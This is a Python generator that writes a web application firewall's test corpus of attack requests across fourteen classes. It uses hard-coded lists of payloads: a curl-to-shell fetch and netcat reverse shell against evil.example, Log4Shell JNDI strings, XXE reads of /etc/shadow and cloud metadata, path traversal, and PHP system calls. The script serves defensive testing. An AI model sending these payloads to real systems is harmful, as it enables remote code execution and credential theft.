"""Writes the project's own attack corpora, one JSONL file per attack class, in the request format of
`regrooter waf check` (see src/waf_cli.rs): attacks/<class>.jsonl. Deterministic (no randomness: every
choice rotates through fixed lists), so the corpus only changes when this script or a payload list does.

Payloads come from attacks/payloads/<class>.txt (sources and licences in attacks/README.md). Generated
here: the whole path traversal corpus (dotdotpwn style: OS files x dot/separator encodings x depth),
and further variants of the smaller classes (`generated()`: encodings x injected lines, directives x
commands, entity forms x targets). Each payload is placed in one to three realistic spots of the
platform's requests — query parameter, form body, JSON field, header, cookie, path — rotating per
class, never in the free-text fields the WAF deliberately leaves uninspected (REPORT_FREE_TEXT /
NARRATIVE_FREE_TEXT in edge/src/waf/mod.rs).

Payload file lines: `## ` starts a comment; `raw:` = percent-encoded exactly as sent (placed verbatim
in a URI, form body, cookie or Referer; percent-decoded once for a JSON field, as a client would send
it); `json:` = a JSON value (NoSQL operators); `qs:` = a query-string fragment placed verbatim;
otherwise a decoded value, with <CR>, <LF>, <TAB> standing for those control characters.

Every line carries, beside the request, `class`, `place` and `payload` (ignored by `waf check`).

usage: python3 make_attacks.py   (writes attacks/*.jsonl next to this script)"""
import json
import math
import os
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
ATTACKS = os.path.join(HERE, "attacks")
PAYLOADS = os.path.join(ATTACKS, "payloads")

HOST = "trust.regrooter.example"
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"
BEARER = "Bearer eyJhbGciOiJFZERTQSIsImtpZCI6ImsxIn0.eyJzdWIiOiJ1MSJ9.sig"
INCIDENT = "inc_5f0c3a9e2b7d4c18a6e3f90b1d2c4e7a"
MIN_PER_CLASS = 150
MAX_PER_CLASS = 400


def load(name):
    seen, out = set(), []
    with open(os.path.join(PAYLOADS, name + ".txt"), encoding="utf-8") as f:
        for line in f:
            line = line.rstrip("\n")
            if not line.strip() or line.startswith("## "):
                continue
            if line not in seen:
                seen.add(line)
                out.append(line)
    return out


def decoded(p):
    return p.replace("<CR>", "\r").replace("<LF>", "\n").replace("<TAB>", "\t")


def enc(v):
    """Percent-encodes a decoded value as a browser or HTTP client would for a query or form value."""
    return urllib.parse.quote(v, safe="")


def uri_safe(raw):
    """A raw (already encoded) payload stays as sent, except characters no valid request-target holds."""
    return raw.replace(" ", "%20").replace('"', "%22").replace("<", "%3C").replace(">", "%3E")


def header_value(v):
    # A header value cannot carry CR/LF on the wire: an attacker sends them percent-encoded.
    return v.replace("\r", "%0d").replace("\n", "%0a")


def base_headers(kind="api"):
    h = {"Host": HOST, "User-Agent": UA}
    if kind == "api":
        h.update({"Accept": "application/json", "Authorization": BEARER, "Accept-Language": "de-DE,de;q=0.9,en;q=0.8"})
    else:
        h.update({"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                  "Accept-Language": "en-GB,en;q=0.9"})
    return h


# --- placements: each takes (value, is_raw) and returns (place, method, uri, headers, body) -------------

def query(route, param, extra="", kind="api"):
    def place(v, raw):
        value = uri_safe(v) if raw else enc(v)
        sep = "&" if "?" in route else "?"
        uri = f"{route}{sep}{param}={value}" + (f"&{extra}" if extra else "")
        return f"query:{param}", "GET", uri, base_headers(kind), ""
    return place


def form(route, field, others=None):
    def place(v, raw):
        fields = dict(others or {})
        body = urllib.parse.urlencode(fields)
        body = (body + "&" if body else "") + f"{field}=" + (v if raw else urllib.parse.quote_plus(v))
        h = base_headers("browser")
        h.update({"Content-Type": "application/x-www-form-urlencoded", "Origin": f"https://{HOST}",
                  "Referer": f"https://{HOST}/security/report?lang=en"})
        return f"form:{field}", "POST", route, h, body
    return place


def json_text(v):
    """A percent-encoded payload as a JSON string carries it: decoded when its bytes are text.
    Bytes that are not UTF-8 (overlong forms such as %c0%8d) cannot be in a JSON document, so they
    stay encoded, as a client would have to send them."""
    try:
        return urllib.parse.unquote(v, errors="strict")
    except UnicodeDecodeError:
        return v


def json_field(method, route, field, others=None):
    def place(v, raw):
        doc = dict(others or {})
        doc[field] = json_text(v) if raw else v
        h = base_headers("api")
        h["Content-Type"] = "application/json"
        return f"json:{field}", method, route, h, json.dumps(doc, ensure_ascii=False)
    return place


def json_value(method, route, field, others=None):
    """The payload is a JSON value (an object or array), as NoSQL operator injection sends it."""
    def place(v, raw):
        doc = dict(others or {})
        doc[field] = json.loads(v)
        h = base_headers("api")
        h["Content-Type"] = "application/json"
        return f"json:{field}", method, route, h, json.dumps(doc, ensure_ascii=False)
    return place


def header(name, route="/api/incidents", template="{}"):
    def place(v, raw):
        h = base_headers("api")
        h[name] = template.format(v if raw else header_value(v))
        return f"header:{name}", "GET", route, h, ""
    return place


def referer(route="/security/report"):
    def place(v, raw):
        h = base_headers("browser")
        h["Referer"] = f"https://{HOST}/security/report?lang=" + (v if raw else enc(v))
        return "header:Referer", "GET", route, h, ""
    return place


def cookie(name, route="/security/report"):
    def place(v, raw):
        h = base_headers("browser")
        h["Cookie"] = f"session=eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiJ1MSJ9.c2ln; {name}=" + (v if raw else enc(v))
        return f"cookie:{name}", "GET", route, h, ""
    return place


def path(prefix, suffix=""):
    def place(v, raw):
        return "path", "GET", prefix + (uri_safe(v) if raw else urllib.parse.quote(v, safe="")) + suffix, base_headers("api"), ""
    return place


def xml_body(route, content_type, method="POST"):
    def place(v, raw):
        h = base_headers("api")
        h["Content-Type"] = content_type
        return f"body:{content_type}", method, route, h, v
    return place


def query_fragment(route, kind="api"):
    def place(v, raw):
        sep = "&" if "?" in route else "?"
        return "query", "GET", route + sep + v, base_headers(kind), ""
    return place


def form_fragment(route):
    def place(v, raw):
        h = base_headers("browser")
        h["Content-Type"] = "application/x-www-form-urlencoded"
        return "form", "POST", route, h, v
    return place


SIGN_IN = ("POST", "/auth/sign-in")
TENANT = ("PUT", "/api/tenants/acme")
USERS = ("POST", "/api/users")
MEASURES = ("POST", f"/api/incidents/{INCIDENT}/measures")
REPORT_FORM = {"description": "See the steps below.", "language": "en"}

PLACES = {
    "sqli": [query("/api/incidents", "q", "sort=date&page=1"), json_field(*SIGN_IN, "email", {"password": "x"}),
             query("/api/users", "search"), form("/security/reports", "reporter_contact", REPORT_FORM),
             json_field(*TENANT, "name"), query("/api/incidents", "sort", "order=asc"), cookie("lang"),
             header("User-Agent"), referer(), path("/api/incidents/"), query("/api/billing/invoices", "starting_after", "limit=20"),
             json_field(*MEASURES, "owner", {"kind": "process", "status": "planned"})],
    "xss": [query("/security/report", "lang", kind="browser"), query("/api/incidents", "q"),
            form("/security/reports", "reporter_contact", REPORT_FORM), json_field(*TENANT, "name"),
            json_field(*USERS, "display_name", {"email": "new@acme.example"}), referer(), cookie("theme"),
            query("/security/report", "utm_source", "lang=de", kind="browser"), path("/security/report/"),
            header("User-Agent"), json_field(*MEASURES, "owner", {"kind": "process"})],
    "rce": [query("/api/incidents", "q"), json_field(*TENANT, "name"), form("/security/reports", "reporter_contact", REPORT_FORM),
            query("/api/sla/reports", "month"), json_field(*MEASURES, "owner", {"kind": "containment"}),
            header("User-Agent"), cookie("tz"), json_field(*USERS, "display_name", {"email": "x@acme.example"}),
            query("/api/retention/certificates", "format", "file=deletion-certificate.pdf"), referer()],
    "crlf": [path("/security/report"), query("/security/report", "lang", kind="browser"), query("/auth/sign-in", "next", kind="browser"),
             referer(), cookie("lang"), json_field(*USERS, "display_name", {"email": "x@acme.example"}),
             form("/security/reports", "reporter_contact", REPORT_FORM), query("/api/retention/certificates", "file", "format=pdf")],
    "ldap": [query("/api/users", "search"), json_field(*SIGN_IN, "email", {"password": "Sommer2026!"}),
             json_field(*SIGN_IN, "password", {"email": "jana.mueller@acme.example"}), query("/api/users", "uid"),
             form("/security/reports", "reporter_contact", REPORT_FORM), json_field(*TENANT, "name")],
    "mail": [json_field(*USERS, "email", {"display_name": "New User"}), form("/security/reports", "reporter_contact", REPORT_FORM),
             json_field(*TENANT, "contact_email", {"name": "ACME GmbH"}), query("/api/mail/folders", "folder"),
             json_field(*SIGN_IN, "email", {"password": "x"}), query("/api/users", "invite")],
    "ssi": [query("/api/incidents", "q"), form("/security/reports", "reporter_contact", REPORT_FORM),
            json_field(*TENANT, "name"), header("User-Agent"), referer(), json_field(*USERS, "display_name", {"email": "x@acme.example"})],
    "ssti": [query("/api/incidents", "q"), json_field(*TENANT, "name"), json_field(*USERS, "display_name", {"email": "x@acme.example"}),
             form("/security/reports", "reporter_contact", REPORT_FORM), query("/security/report", "lang", kind="browser"),
             cookie("theme"), header("User-Agent"), json_field(*MEASURES, "owner", {"kind": "process"})],
    "java": [header("User-Agent"), header("X-Api-Version"), query("/api/incidents", "q"), json_field(*TENANT, "name"),
             header("X-Forwarded-For"), cookie("lang"), form("/security/reports", "reporter_contact", REPORT_FORM),
             referer(), json_field(*SIGN_IN, "email", {"password": "x"})],
    "php": [query("/security/report", "page", kind="browser"), form("/security/reports", "reporter_contact", REPORT_FORM),
            json_field(*TENANT, "name"), cookie("data"), header("User-Agent"), query("/api/retention/certificates", "file", "format=pdf"),
            json_field(*USERS, "display_name", {"email": "x@acme.example"})],
    "ssrf": [json_field(*TENANT, "webhook_url", {"name": "ACME GmbH"}), query("/api/tenants/acme/webhook/test", "url"),
             json_field(*USERS, "avatar_url", {"email": "x@acme.example"}), form("/security/reports", "reporter_contact", REPORT_FORM),
             query("/api/retention/certificates", "source", "format=pdf"), json_field("POST", "/api/billing/portal", "return_url")],
    "nosql": [json_field(*SIGN_IN, "email", {"password": "x"}), query("/api/users", "search"), json_field(*SIGN_IN, "password", {"email": "admin@regrooter.example"}),
              form("/security/reports", "reporter_contact", REPORT_FORM), json_field(*TENANT, "name")],
    "xxe": [xml_body("/api/tenants/acme/import", "application/xml"), xml_body("/api/sla/claims/import", "text/xml"),
            xml_body("/api/incidents/import", "application/soap+xml")],
}
JSON_PLACES = [json_value(*SIGN_IN, "email", {"password": "x"}), json_value(*SIGN_IN, "password", {"email": "admin@regrooter.example"}),
               json_value("POST", "/api/users/search", "filter"), json_value(*TENANT, "name")]
FRAGMENT_PLACES = [query_fragment("/api/users"), form_fragment("/auth/sign-in"), query_fragment("/api/incidents")]

# --- path traversal (dotdotpwn style, generated) ---------------------------------------------------------

TARGETS = ["etc/passwd", "etc/issue", "boot.ini", "windows/system32/drivers/etc/hosts", "windows/win.ini",
           "etc/shadow", "proc/self/environ"]
# (dots, separator) units of one "../" step: plain, percent, double and triple encoding, overlong UTF-8,
# %u forms, invalid escapes, filter-bypass forms and mixed separators.
UNITS = [("..", "/"), ("..", "\\"), ("%2e%2e", "%2f"), ("%2e%2e", "/"), ("..", "%2f"), ("..", "%5c"), ("%2e%2e", "%5c"),
         (".%2e", "/"), ("%2e.", "%2f"), ("%252e%252e", "%252f"), ("..", "%252f"), ("..", "%255c"),
         ("%25252e%25252e", "%25252f"), ("..", "%25252f"), ("%c0%ae%c0%ae", "/"), ("..", "%c0%af"),
         ("%c0%ae%c0%ae", "%c0%af"), ("..", "%c1%9c"), ("%c0%ae%c0%ae", "%c1%9c"), ("%e0%80%ae%e0%80%ae", "/"),
         ("..", "%e0%80%af"), ("%e0%80%ae%e0%80%ae", "%e0%80%af"), ("%f0%80%80%ae%f0%80%80%ae", "/"), ("..", "%f0%80%80%af"),
         ("%25c0%25ae%25c0%25ae", "%25c0%25af"), ("%uff0e%uff0e", "/"), ("..", "%u2215"), ("..", "%u2216"),
         ("%uff0e%uff0e", "%u2215"), ("%u002e%u002e", "%u002f"), ("..", "%uF025"), ("%%32%65%%32%65", "/"),
         ("..", "%%32%66"), ("..", "%%35%63"), ("%c0%2e%c0%2e", "/"), ("....", "//"), ("...", "/"), ("..", "/./"),
         ("..", ";/"), ("..", "\\/"), ("..", "/\\"), ("..%00", "/"), ("%2e%2e", "%5c%2f")]


def traversal_payloads():
    out = []
    for i, (dots, sep) in enumerate(UNITS):
        for j, target in enumerate(TARGETS):
            depth = 3 + (i + j) % 6
            # Mixed separators: every other unit with / and \ alternating.
            if (i + j) % 5 == 0 and sep == "/":
                steps = "".join(dots + ("/" if k % 2 else "\\") for k in range(depth))
            else:
                steps = (dots + sep) * depth
            tsep = sep if sep in ("/", "\\", "%2f", "%5c", "%252f", "%c0%af", "%u2215") else "/"
            out.append(steps + target.replace("/", tsep))
    extras = ["/etc/passwd", "/etc/passwd%00", "../../../../etc/passwd%00.png", "..%2f..%2f..%2fetc%2fpasswd%2500.jpg",
              "C:\\windows\\win.ini", "C:/boot.ini", "c:%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
              "\\\\?\\C:\\windows\\win.ini", "\\\\localhost\\c$\\windows\\win.ini", "file:///etc/passwd",
              "/var/www/../../etc/passwd", "/proc/self/cwd/../../../../etc/passwd", "....//....//....//etc/passwd",
              "..././..././..././etc/passwd", "..\\..\\..\\..\\boot.ini", "/%5C../%5C../%5C../etc/passwd",
              "%2fetc%2fpasswd", "%252fetc%252fpasswd", "..%252f..%252f..%252fwindows%252fwin.ini",
              "/./././././etc/passwd", "//etc//passwd", "/etc/./passwd", "....\\\\....\\\\windows\\\\win.ini",
              "..%c0%af..%c0%af..%c0%afetc%c0%afissue", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afboot.ini",
              "%uff0e%uff0e%u2216%uff0e%uff0e%u2216windows%u2216win.ini", "..%5c..%2f..%5c..%2fetc%2fpasswd",
              "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "..%5C..%5C..%5CWINDOWS%5Cwin.ini", "%2E%2E%2F%2E%2E%2Fetc%2Fissue"]
    return out + extras


TRAVERSAL_PLACES = [query("/api/retention/certificates", "file", "format=pdf"), query("/security/report", "page", kind="browser"),
                    path("/api/retention/certificates/"), path("/security/"), cookie("lang"), referer(),
                    query("/api/incidents", "template"), form("/security/reports", "language", {"description": "x"}),
                    path("/security/report.css/")]

# --- generated variants (own, deterministic): encodings x injected lines, directives x commands -----------

CRLF_ENCODINGS = ["%0d%0a", "%0a", "%0d", "%0D%0A", "%250d%250a", "%25250a", "%u000d%u000a", "%E5%98%8A%E5%98%8D",
                  "%0d%0a%09", "%c0%8d%c0%8a"]
CRLF_LINES = ["Set-Cookie:%20sid=attacker;%20Path=/", "Location:%20https://evil.example/", "Content-Length:%200",
              "X-Forwarded-Host:%20evil.example", "Content-Type:%20text/html"]
LDAP_TEMPLATES = ["*)({a}=*))(|({a}=*", "admin)({a}=*)", "*)(|({a}=*)", "x*)(|({a}=*))%00", "*)(!({a}=nobody)"]
LDAP_ATTRS = ["uid", "cn", "mail", "userPassword", "objectClass", "memberOf", "sn", "givenName", "telephoneNumber",
              "description", "sAMAccountName", "homeDirectory"]
MAIL_ENCODINGS = ["%0d%0a", "%0a", "%0D%0A", "%250d%250a", "%0d"]
MAIL_LINES = ["RCPT%20TO:<x@evil.example>", "Bcc:%20x@evil.example", "Cc:%20x@evil.example", "A002%20LOGOUT", "DATA",
              "MAIL%20FROM:<ceo@regrooter.example>", "A003%20FETCH%201:*%20(BODY[])", "Reply-To:%20x@evil.example", "QUIT",
              "A004%20DELETE%20INBOX", "VRFY%20admin", "Subject:%20Urgent%20invoice"]
MAIL_PREFIXES = ["jana@example.de", "INBOX", "", "support@acme.example"]
SSI_COMMANDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "ping -c 3 10.0.0.1", "curl http://evil.example/x|sh",
                "wget http://evil.example/s -O /tmp/s", "nc 10.0.0.1 4444 -e /bin/sh", "type C:\\boot.ini", "net user",
                "echo pwned > /var/www/html/x.html"]
SSI_FORMS = ['<!--#exec cmd="{c}" -->', '<!--#exec cmd="{c}"-->', '<!--#EXEC CMD="{c}" -->', "<!--#exec cmd='{c}' -->"]
SSI_FILES = ["/etc/passwd", "/etc/shadow", "../../../../etc/passwd", "/proc/self/environ", "C:\\boot.ini",
             "/windows/win.ini", "http://evil.example/x"]
XXE_TARGETS = ["file:///etc/passwd", "file:///etc/issue", "file:///etc/shadow", "file:///c:/boot.ini",
               "file:///c:/windows/win.ini", "file:///proc/self/environ", "http://169.254.169.254/latest/meta-data/",
               "http://127.0.0.1:8080/", "php://filter/convert.base64-encode/resource=/etc/passwd", "expect://id",
               "https://evil.example/x", "ftp://evil.example/x"]
XXE_FORMS = ['<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{t}">]><r>&x;</r>',
             '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE tenant [ <!ENTITY  ext  SYSTEM  "{t}" > ]><tenant><name>&ext;</name></tenant>',
             '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "{t}"> %p;]><r/>',
             '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "{t}">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m>&x;</m></soap:Body></soap:Envelope>',
             '<!DOCTYPE svg [<!ENTITY x SYSTEM "{t}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>']
NOSQL_FIELDS = ["email", "password", "username", "tenant", "role"]
NOSQL_OPS = ["[$ne]=x", "[$gt]=", "[$regex]=.*", "[$exists]=true", "[$in][]=admin", "[$nin][]=nobody"]
SSRF_PORTS = [22, 25, 3306, 5432, 6379, 9200, 11211, 2375, 8500, 27017]
JNDI_PROTOCOLS = ["ldap", "ldaps", "rmi", "dns", "iiop", "http", "nis", "nds", "corba"]
JNDI_FORMS = ["${{jndi:{p}://evil.example/a}}", "${{${{lower:j}}ndi:{p}://evil.example/a}}",
              "${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{p}://evil.example/a}}", "${{j${{env:X:-n}}di:{p}://evil.example/a}}"]
PHP_FUNCS = ["system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec", "assert", "eval"]
PHP_STYLES = ["{f}('id');", "<?php {f}($_GET['c']); ?>", "@{f}(\"cat /etc/passwd\")"]


def generated(cls):
    """(kind, payload) pairs generated for a class, in a fixed order."""
    if cls == "crlf":
        return [("raw", ["", "en", "/"][i % 3] + e + line)
                for i, (e, line) in enumerate((e, l) for e in CRLF_ENCODINGS for l in CRLF_LINES)]
    if cls == "ldap":
        return [("text", t.format(a=a)) for t in LDAP_TEMPLATES for a in LDAP_ATTRS]
    if cls == "mail":
        return [("raw", MAIL_PREFIXES[i % len(MAIL_PREFIXES)] + e + line)
                for i, (e, line) in enumerate((e, l) for e in MAIL_ENCODINGS for l in MAIL_LINES)]
    if cls == "ssi":
        return ([("text", f.format(c=c)) for c in SSI_COMMANDS for f in SSI_FORMS]
                + [("text", f'<!--#include {k}="{t}" -->') for t in SSI_FILES for k in ("file", "virtual")])
    if cls == "xxe":
        return [("text", f.format(t=t)) for t in XXE_TARGETS for f in XXE_FORMS]
    if cls == "nosql":
        return [("qs", f"{f}{op}" + ("&password[$ne]=x" if f == "email" else "")) for f in NOSQL_FIELDS for op in NOSQL_OPS]
    if cls == "ssrf":
        return [("text", f"{s}://127.0.0.1:{p}/") for p in SSRF_PORTS for s in ("http", "gopher", "dict")]
    if cls == "java":
        return [("text", f.format(p=p)) for p in JNDI_PROTOCOLS for f in JNDI_FORMS]
    if cls == "php":
        return [("text", st.format(f=f)) for f in PHP_FUNCS for st in PHP_STYLES]
    return []


# --- assembly --------------------------------------------------------------------------------------------

CLASSES = [("sqli", "sqli"), ("xss", "xss"), ("path-traversal", "lfi"), ("rce", "rce"), ("crlf", "crlf"),
           ("ldap", "ldap"), ("mail", "mail"), ("ssi", "ssi"), ("ssti", "ssti"), ("java", "java"), ("php", "php"),
           ("ssrf", "ssrf"), ("nosql", "nosql"), ("xxe", "xxe")]


def build(cls, prefix):
    if cls == "path-traversal":
        payloads, places = [("raw", p) for p in traversal_payloads()], TRAVERSAL_PLACES
    else:
        payloads, places = [], PLACES[cls]
        for p in load(cls):
            for kind in ("raw:", "json:", "qs:"):
                if p.startswith(kind):
                    payloads.append((kind[:-1], p[len(kind):]))
                    break
            else:
                payloads.append(("text", decoded(p)))
        known = {p for _, p in payloads}
        payloads += [kp for kp in generated(cls) if kp[1] not in known]
    reps = max(1, min(3, math.ceil(MIN_PER_CLASS / len(payloads))))
    cases, seen = [], set()
    for rep in range(reps):
        for i, (kind, p) in enumerate(payloads):
            if len(cases) >= MAX_PER_CLASS:
                break
            if kind == "json":
                place = JSON_PLACES[(i + rep) % len(JSON_PLACES)]
            elif kind == "qs":
                place = FRAGMENT_PLACES[(i + rep) % len(FRAGMENT_PLACES)]
            else:
                # Offset by rep so the same payload lands in a different spot each repetition.
                place = places[(i + rep * max(1, len(places) // reps)) % len(places)]
            where, method, uri, headers, body = place(p, kind == "raw")
            key = (method, uri, json.dumps(headers, sort_keys=True), body)
            if key in seen:
                continue
            seen.add(key)
            cases.append({"id": f"{prefix}-{len(cases) + 1:04d}", "class": cls, "place": where, "payload": p,
                          "method": method, "uri": uri, "headers": headers, "body": body})
    return cases


def main():
    os.makedirs(ATTACKS, exist_ok=True)
    for cls, prefix in CLASSES:
        cases = build(cls, prefix)
        with open(os.path.join(ATTACKS, cls + ".jsonl"), "w", encoding="utf-8") as f:
            for c in cases:
                f.write(json.dumps(c, ensure_ascii=False) + "\n")
        print(f"{cls:15} {len(cases):4} requests")


main()
